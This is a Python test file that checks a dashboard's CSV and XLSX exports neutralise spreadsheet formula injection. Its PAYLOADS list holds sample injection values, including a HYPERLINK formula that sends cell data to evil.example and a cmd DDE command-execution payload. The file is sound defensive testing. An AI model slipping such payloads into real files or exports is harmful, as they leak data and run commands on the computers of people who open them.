"""Exports open as data, not formulas: CSV cells get an apostrophe, XLSX cells stay text (issue 11).

The payloads are the probe's (a feed value that a spreadsheet runs when the file is opened); the
expected cells are written out by hand. The grid's browser-side CSV export is checked in real Chromium
on a page built from the app's own ``data_grid``.
"""

from __future__ import annotations

import csv
import io
import os
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from medtower.spreadsheet import csv_text, safe_cell, safe_frame, text_only_workbook
from tests.chromium import CHROMIUM, CHROMIUM_ARGS, need_chromium
from tests.served_app import free_port, launch
from tests.signin import add_user, signed_in_page

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "customer": [*PAYLOADS, "Cork University Hospital", "a=b", None],
            "qty": [-5, 1, 2, 3, 4, 5, 6, 7.5, 8],
        }
    )


def test_safe_cell_prefixes_only_text_a_spreadsheet_would_evaluate() -> None:
    assert [safe_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert safe_cell("Cork University Hospital") == "Cork University Hospital"
    assert safe_cell("a=b") == "a=b"  # only the first character matters
    assert safe_cell(-5) == -5 and safe_cell(None) is None and safe_cell("") == ""


def test_csv_export_reads_back_as_text_and_numbers_stay_numbers() -> None:
    text = csv_text(_frame())
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["customer", "qty"]
    assert [r[0] for r in rows[1:7]] == ["'" + p for p in PAYLOADS]
    assert [r[0] for r in rows[7:]] == ["Cork University Hospital", "a=b", ""]
    assert [r[1] for r in rows[1:]] == ["-5.0", "1.0", "2.0", "3.0", "4.0", "5.0", "6.0", "7.5", "8.0"]


def test_safe_frame_leaves_the_original_alone_and_covers_headers() -> None:
    frame = pd.DataFrame({"=bad header": ["=1"]})
    out = safe_frame(frame)
    assert list(out.columns) == ["'=bad header"] and out.iloc[0, 0] == "'=1"
    assert frame.iloc[0, 0] == "=1"


def _xlsx(fix: bool) -> bytes:
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as xl:
        _frame().to_excel(xl, sheet_name="lots", index=False)
        if fix:
            assert text_only_workbook(xl.book) == 1  # the one payload that starts with "="
    return buf.getvalue()


def test_xlsx_export_holds_no_formula_cells() -> None:
    sheet = zipfile.ZipFile(io.BytesIO(_xlsx(fix=True))).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    book = openpyxl.load_workbook(io.BytesIO(_xlsx(fix=True)))
    cells = [(c.value, c.data_type) for c in book["lots"]["A"][1:7]]
    # The cell shows what the feed said, as text (XML reads a bare CR back as LF).
    assert cells == [(p.replace("\r", "\n"), "s") for p in PAYLOADS]
    assert book["lots"]["B2"].value == -5


def test_without_the_fix_openpyxl_would_write_a_live_formula() -> None:
    # Guards the test above: the payload really is a formula when nothing is done.
    sheet = zipfile.ZipFile(io.BytesIO(_xlsx(fix=False))).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>HYPERLINK" in sheet


# The real app with one extra page: the app's own data_grid over the payloads. In a process of its own:
# Dash gives the callbacks registered at import (the grid's export) to the first app of a process only.
_APP = """
import io
import sys
import dash
import pandas as pd
from dashboards import components
from dashboards.app import create_app
from medtower.settings import Settings

frame = pd.read_json(io.StringIO(sys.argv[3]), orient="split")
app = create_app(Settings(data_dir=sys.argv[1], planner_emails=[]))
dash.register_page("probe", path="/probe", layout=components.data_grid("probe", frame))
app.run(host="127.0.0.1", port=int(sys.argv[2]), debug=False)
"""


def test_grid_csv_download_in_chromium_is_neutralised(tmp_path: Path) -> None:
    need_chromium()
    from playwright.sync_api import sync_playwright

    root = Path(__file__).resolve().parents[2]
    add_user(tmp_path / "data")
    port = free_port()
    with (
        launch(
            [sys.executable, "-c", _APP, str(tmp_path / "data"), str(port), _frame().to_json(orient="split")],
            tmp_path / "app.log",
            {**os.environ, "PYTHONPATH": str(root)},
            f"http://127.0.0.1:{port}",
            ready="/probe",
        ),
        sync_playwright() as pw,
    ):
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = signed_in_page(browser, f"http://127.0.0.1:{port}", accept_downloads=True)
            page.goto(f"http://127.0.0.1:{port}/probe")
            page.wait_for_selector(".ag-row", timeout=30_000)
            with page.expect_download(timeout=30_000) as info:
                page.get_by_text("Export CSV").click()
            text = Path(info.value.path()).read_bytes().decode("utf-8-sig")
        finally:
            browser.close()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    by_customer = [r[0] for r in rows[1:]]
    assert by_customer[:6] == ["'" + p for p in PAYLOADS], by_customer
    assert by_customer[6:8] == ["Cork University Hospital", "a=b"]
    assert rows[1][1] == "-5"


if __name__ == "__main__":  # pragma: no cover
    pytest.main([__file__, "-q"])
